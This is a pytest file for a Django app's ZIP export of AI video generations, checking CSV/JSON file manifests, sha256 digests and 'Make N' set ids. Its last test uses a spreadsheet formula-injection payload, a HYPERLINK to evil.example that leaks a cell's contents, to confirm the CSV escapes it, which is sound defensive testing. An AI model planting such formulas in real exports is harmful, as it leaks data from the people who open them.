"""The ZIP export's metadata (issue 10, item 5): metadata.csv names every file the ZIP holds for a row, as
metadata.json's `files` does (an HDR clip's EXR included), and both tell which "Make N" set a generation is from.
The export's other checks are in test_share_export.py."""

import csv
import hashlib
import io
import json
import uuid
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.utils import timezone

from generations import variations
from generations.models import ArchiveState, Generation, Kind, Provider, State

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def hdr_clip_with_exr(owner, prompt="A neon street at night, HDR") -> tuple[Generation, bytes]:
    """A completed Ray 3.2 HDR clip archived as the archiver stores one: the video as the row's file and its EXR
    export as a further output in extra_files (type "exr"). Returns the row and the EXR's bytes."""
    row = Generation.objects.create(owner=owner, prompt=prompt, kind=Kind.TEXT_TO_VIDEO, model="ray-3.2",
                                    provider=Provider.AGENTS, state=State.COMPLETED, luma_id=str(uuid.uuid4()),
                                    completed_at=timezone.now(), resolution="1080p", duration="5s",
                                    options={"hdr": True, "exr_export": True})
    video = b"\0\0\0\x18ftypmp42" + f"{row.pk} HDR video".encode() * 400
    exr = b"v/1\x01" + f"{row.pk} EXR frame".encode() * 300
    row.archive_state = ArchiveState.DONE
    row.archive_file.save(f"{row.pk}-{sha(video)[:12]}.mp4", ContentFile(video), save=False)
    row.sha256, row.archive_size = sha(video), len(video)
    row.poster.save(f"{row.pk}.jpg", ContentFile(b"\xff\xd8\xff poster of " + str(row.pk).encode()), save=False)
    exr_name = row.archive_file.storage.save(f"archive/{row.pk}-1-{sha(exr)[:12]}.exr", ContentFile(exr))
    row.extra_files = [{"type": "video", "file": row.archive_file.name, "size": len(video), "sha256": row.sha256},
                       {"type": "exr", "file": exr_name, "size": len(exr), "sha256": sha(exr)}]
    row.save()
    return row, exr


def export(client, rows) -> tuple[zipfile.ZipFile, dict, dict]:
    """The ZIP of `rows`, its metadata.json rows and its metadata.csv lines, each by generation id."""
    response = client.post("/export/", {"ids": [row.pk for row in rows]})
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    meta = {row["id"]: row for row in json.loads(archive.read("metadata.json"))["generations"]}
    table = {int(line["id"]): line for line in csv.DictReader(io.StringIO(archive.read("metadata.csv").decode()))}
    return archive, meta, table


def csv_files(line: dict) -> list[tuple[str, str, str]]:
    """The CSV's `files` cell as a spreadsheet user splits it: `role:path:sha256` entries joined by "; "."""
    return [tuple(entry.split(":")) for entry in line["files"].split("; ")] if line["files"] else []


def test_the_csv_names_an_hdr_clips_exr_with_the_sha256_of_the_bytes_in_the_zip(alice_client, alice):
    clip, exr = hdr_clip_with_exr(alice)
    archive, meta, table = export(alice_client, [clip])

    entries = csv_files(table[clip.pk])
    exrs = [(path, digest) for role, path, digest in entries if role == "exr"]
    assert len(exrs) == 1
    path, digest = exrs[0]
    assert path.startswith("extras/") and path.endswith(".exr")
    assert archive.read(path) == exr and digest == sha(exr)
    # The CSV alone accounts for every file of the ZIP, each with the sha256 of its bytes there, as the JSON does.
    assert {path for _, path, _ in entries} == set(archive.namelist()) - {"metadata.json", "metadata.csv"}
    for role, path, digest in entries:
        assert sha(archive.read(path)) == digest, path
    assert sorted(entries) == sorted((item["role"], item["path"], item["sha256"]) for item in meta[clip.pk]["files"])
    assert {role for role, _, _ in entries} == {"video", "exr", "poster"}


def test_a_make_n_sets_rows_share_a_set_id_in_the_json_and_the_csv(alice_client, alice, jobs):
    takes, _ = variations.request_set(alice, 3, Kind.TEXT_TO_VIDEO, prompt="A fox, three takes", model="ray-2",
                                      resolution="720p", duration="5s")
    alone, _ = variations.request_set(alice, 1, Kind.TEXT_TO_VIDEO, prompt="A fox, one take", model="ray-2",
                                      resolution="720p", duration="5s")
    clip, _ = hdr_clip_with_exr(alice)
    _, meta, table = export(alice_client, [*takes, *alone, clip])

    batch = takes[0].batch
    assert batch
    assert [meta[row.pk]["set"] for row in takes] == [batch] * 3
    assert [table[row.pk]["set"] for row in takes] == [batch] * 3
    # One made alone is in no set; the CSV's cell is empty and the JSON's an empty string.
    for row in (*alone, clip):
        assert meta[row.pk]["set"] == "" and table[row.pk]["set"] == ""
    # Rows not archived yet have no files, and the cell says nothing rather than something empty-looking.
    assert all(table[row.pk]["files"] == "" for row in takes)


def test_a_prompt_that_looks_like_a_formula_is_text_in_the_csv_and_unchanged_in_the_json(alice_client, alice):
    """A teammate's prompt must not run as a spreadsheet formula on whoever opens the export."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    row, _ = hdr_clip_with_exr(alice, prompt=formula)
    Generation.objects.filter(pk=row.pk).update(negative_prompt="@SUM(1+1)")
    _, meta, table = export(alice_client, [row])
    assert table[row.pk]["prompt"] == "'" + formula and table[row.pk]["negative_prompt"] == "'@SUM(1+1)"
    assert meta[row.pk]["prompt"] == formula  # the JSON keeps the words as typed
